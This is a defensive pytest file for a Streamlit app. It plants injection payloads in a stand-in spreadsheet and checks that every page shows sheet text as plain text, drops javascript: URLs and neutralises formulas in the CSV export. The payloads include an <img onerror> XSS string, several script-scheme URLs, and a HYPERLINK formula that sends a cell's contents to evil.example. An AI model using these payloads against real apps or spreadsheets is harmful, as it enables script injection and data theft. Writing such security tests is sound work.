"""Sheet text is shown as text: never as Markdown, HTML or a link, on any page; never a script link.

A team's sheet is edited by many people, and what they type reaches every screen of the app. Here
the sheet (on the Sheets stand-in, read through gspread like in production) holds Markdown, HTML and
``javascript:`` links in the text the app shows most: a theme title, a source name, a critiqued
artifact, a commitment title and a decision summary. On every page of the navigation (and every
Retro slide, on screen and in presentation mode):

* Markdown-rendering elements (markdown, captions, headings, alerts, metric and widget labels,
  ``st.table`` cells) never turn the text into markup: each is rendered with a CommonMark parser
  and the HTML must have no image, no emphasis from the sheet and no ``javascript:`` link;
* plotly charts (titles, labels and hover text are HTML-ish) carry ``<`` as ``&lt;``;
* the text itself is still on screen, as typed, in a data grid or a chart.

A ``javascript:`` URL in a ``url`` column is dropped by the schema with a warning, and no link
anywhere points at it. ``tests/test_sheets_write.py`` covers text written to the sheet (RAW);
``tests/test_retro.py`` and ``tests/test_reports.py`` the Retro's own escaping; ``tests/test_exports.py``
the CSV export (one end-to-end check is here).
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from learnloop import exports, load, metrics
from learnloop.filters import Filters
from learnloop.sources import sheets
from tests import reliability
from tests.fixtures.small import raw_tabs
from tests.reliability.apptest import (
    PAGES,
    clear_caches,
    nodes,
    open_app,
    point_app_at,
    proto_dict,
    strings,
    tour,
    write_key_file,
)
from tests.sheets_standin import SheetsStandin

PAYLOAD = "**bold** [x](javascript:alert(1)) <img src=x onerror=alert(1)>"
SCRIPT_URLS = ["javascript:alert(1)", "JavaScript:alert(document.cookie)", " javascript:alert(1)",
               "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"]
FORMULA = '=HYPERLINK("https://evil.example/?c="&A1,"Open")'
# (tab, 0-based row with the header as 0, column): the cells that get the payload. All in 2026-Q2
# or attached to a theme of it, so the Retro's 2026-Q2 slides show them too.
PLANTED = [("themes", 2, "title"), ("sources", 1, "name"), ("critiques", 4, "artifact"),
           ("commitments", 2, "title"), ("decisions", 3, "summary")]
MARKUP = re.compile(r"<img|<script|<strong>bold|<em>|href=\"\s*(?:javascript|vbscript|data):", re.I)
# Fields of an element's proto that are shown as plain text (never parsed as Markdown).
PLAIN_FIELDS = {"options", "default", "value", "rawValues", "placeholder", "id", "formId", "data", "spec",
                "url", "deltaDescription"}
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
GRIDS = ("dataframe", "arrow_data_frame")  # st.dataframe, by AppTest's name and by the proto's
TABLES = ("table", "arrow_table")


def planted_tabs() -> dict[str, list[list[Any]]]:
    tabs = raw_tabs()
    for tab, row, column in PLANTED:
        tabs[tab][row][tabs[tab][0].index(column)] = PAYLOAD
    for row, url in enumerate(SCRIPT_URLS, start=1):  # S-1 .. S-6
        tabs["sources"][row][tabs["sources"][0].index("url")] = url
    tabs["sources"][7][tabs["sources"][0].index("url")] = "https://example.com/ok"  # S-7: a link that is kept
    tabs["commitments"][1][tabs["commitments"][0].index("url")] = "javascript:alert(1)"  # K-1
    tabs["decisions"][1][tabs["decisions"][0].index("summary")] = FORMULA  # D-1
    return tabs


@pytest.fixture
def sid(sheets_standin: SheetsStandin, standin_service_account: dict[str, str]) -> str:
    key = sheets_standin.add_spreadsheet(planted_tabs(), title="Injection playbook")
    sheets_standin.share(key, standin_service_account["client_email"], "reader")
    return key


@pytest.fixture
def app_on_sheet(sheets_standin: SheetsStandin, standin_service_account: dict[str, str], sid: str,
                 tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    point_app_at(monkeypatch, sheets_standin, sid, write_key_file(tmp_path, standin_service_account))
    yield
    clear_caches()


@pytest.fixture
def reader(sheets_standin: SheetsStandin, standin_service_account: dict[str, str]) -> sheets.SheetReader:
    access = sheets.Access(service_account=standin_service_account, base_url=sheets_standin.base_url,
                           timeout=(2.0, 5.0))
    return sheets.SheetReader(access, sheets.RetryPolicy(max_seconds=2, max_attempts=2, first_wait=0.01))


# --------------------------------------------------------------------------------- the check ---


def rendered_markdown(text: str) -> str:
    return MARKDOWN.render(text)


def chart_strings(spec: str) -> Iterator[str]:
    return (text for _, text in strings(json.loads(spec)))  # the JSON escapes "<" as \u003c: decode it first


def markup_from_the_sheet(at: AppTest) -> tuple[list[str], int]:
    """Where sheet text became markup (should be none), and how many places show it as text."""
    problems, shown = [], 0
    for node in nodes(at):
        kind = getattr(node, "type", None)
        if kind in GRIDS:  # a data grid: cells are plain text
            cells = node.value.astype("string").fillna("").to_numpy().ravel()
            shown += any(PAYLOAD in cell for cell in cells)
            continue
        if kind in TABLES:  # st.table renders every cell as Markdown
            for cell in node.value.astype("string").fillna("").to_numpy().ravel():
                if MARKUP.search(rendered_markdown(cell)):
                    problems.append(f"table cell {cell!r}")
            continue
        fields = proto_dict(node)
        if kind == "plotly_chart":
            for text in chart_strings(fields.get("spec", "{}")):
                if MARKUP.search(text) or re.search(r"<a\s", text, re.I):
                    problems.append(f"chart text {text[:120]!r}")
                shown += "&lt;img src=x" in text
            continue
        for path, text in strings(fields):
            if path and path[-1] in PLAIN_FIELDS:
                continue
            if "onerror" in text and MARKUP.search(rendered_markdown(text)):
                problems.append(f"{kind} {'.'.join(path)}: {text[:120]!r}")
    return problems, shown


def script_links(at: AppTest) -> list[str]:
    """Links (in grids, Markdown or charts) that point at a ``javascript:``-like URL: should be none."""
    found = []
    for node in nodes(at):
        kind = getattr(node, "type", None)
        if kind in GRIDS:
            frame = node.value
            if "link" in frame.columns:  # Data health's links to cells: always to Google Sheets
                found += [link for link in frame["link"].dropna() if not link.startswith("https://docs.google.com/")]
            if "url" in frame.columns:
                found += [url for url in frame["url"].dropna().astype(str) if not re.match(r"https?://", url)]
        elif kind == "plotly_chart":
            found += [text for text in chart_strings(proto_dict(node).get("spec", "{}"))
                      if re.search(r"href\s*=\s*[\"']?\s*(?:java|vb)script:", text, re.I)]
        else:
            found += [text for path, text in strings(proto_dict(node)) if path and path[-1] not in PLAIN_FIELDS
                      and re.search(r"href=\"\s*(?:java|vb)script:", rendered_markdown(text), re.I)]
    return found


# ----------------------------------------------------------------------------- every page ---


@pytest.mark.usefixtures("app_on_sheet")
def test_sheet_text_is_never_markup_and_no_link_points_at_a_script_on_any_page() -> None:
    shown_anywhere = 0
    checked = []
    headings = []
    for view, at in tour(retro_query={"quarter": "2026-Q2"}):
        if view.startswith("retro"):
            headings.append(at.header[0].value)
        assert not at.exception, (view, [str(e.value) for e in at.exception])
        problems, shown = markup_from_the_sheet(at)
        links = script_links(at)
        reliability.add(injection_checks=1, markup_rendered=len(problems) + len(links))
        assert not problems, (view, problems)
        assert not links, (view, links)
        shown_anywhere += shown
        checked.append(view)
    assert len(set(checked)) == len(PAGES) - 1 + 12
    assert all(heading.endswith("· 2026-Q2") for heading in headings), headings
    assert shown_anywhere >= len(PAGES), "the text is on screen, as text, in grids and charts"


@pytest.mark.usefixtures("app_on_sheet")
def test_the_text_is_shown_as_typed_in_the_data_grids() -> None:
    at = open_app("pages/impact.py")
    log = next(node.value for node in nodes(at) if getattr(node, "type", None) in GRIDS
               and "Summary" in node.value.columns)
    assert PAYLOAD in set(log["Summary"]) and FORMULA in set(log["Summary"])
    themes = open_app("pages/themes.py")
    assert any(PAYLOAD in set(node.value.astype("string").to_numpy().ravel()) for node in nodes(themes)
               if getattr(node, "type", None) in GRIDS)


def test_the_check_catches_markup() -> None:
    """A check of the check: the same payload unescaped in a markdown element, a chart title and a
    table cell is caught; escaped (what the app does) it is not."""
    from learnloop import reports

    assert MARKUP.search(rendered_markdown(PAYLOAD))
    assert not MARKUP.search(rendered_markdown(reports.escape_markdown(PAYLOAD)))
    assert MARKUP.search('<img src=x onerror=alert(1)>') and not MARKUP.search("&lt;img src=x onerror=alert(1)&gt;")
    assert MARKUP.search(rendered_markdown("[x](javascript:alert(1))")) is None, \
        "CommonMark itself refuses javascript: links; the other markers catch the rest"
    assert MARKUP.search(rendered_markdown("**bold**"))


# --------------------------------------------------------------------------- javascript: URLs ---


def test_script_urls_are_dropped_with_a_warning_and_never_kept(sheets_standin: SheetsStandin,
                                                               reader: sheets.SheetReader, sid: str) -> None:
    wb = load.workbook(sid, reader=reader)
    urls = wb.sources.set_index("source_id")["url"]
    assert urls.loc["S-7"] == "https://example.com/ok"
    for n, typed in enumerate(SCRIPT_URLS, start=1):
        assert pd.isna(urls.loc[f"S-{n}"]), typed
        warnings = [i for i in wb.issues if i.tab == "sources" and i.row == n + 1 and i.column == "url"]
        assert [i.severity for i in warnings] == ["warning"], typed
        assert "https://" in warnings[0].message and "left out" in warnings[0].message
    assert len(wb.sources) == len(raw_tabs()["sources"]) - 1, "the rest of each row is kept"
    assert pd.isna(wb.commitments.set_index("commitment_id").loc["K-1", "url"])
    for tab in ("sources", "commitments"):
        assert not wb.tables[tab]["url"].dropna().str.contains("script:", case=False).any()
    reliability.add(injection_checks=len(SCRIPT_URLS) + 1)


# ------------------------------------------------------------------------------- CSV export ---


def test_a_formula_in_the_sheet_is_neutralised_in_the_csv_export(reader: sheets.SheetReader, sid: str) -> None:
    """End to end: the sheet's text, the Impact page's decision log, its CSV download (``ui.download_csv``)."""
    wb = load.workbook(sid, reader=reader)
    log = metrics.decision_log(wb, Filters())
    rows = list(csv.DictReader(io.StringIO(exports.to_csv(log).decode("utf-8-sig"))))
    summaries = {row["summary"] for row in rows}
    assert "'" + FORMULA in summaries and FORMULA not in summaries
    assert not [value for row in rows for value in row.values() if value and value[0] in "=+-@\t\r"]
    reliability.add(injection_checks=1)
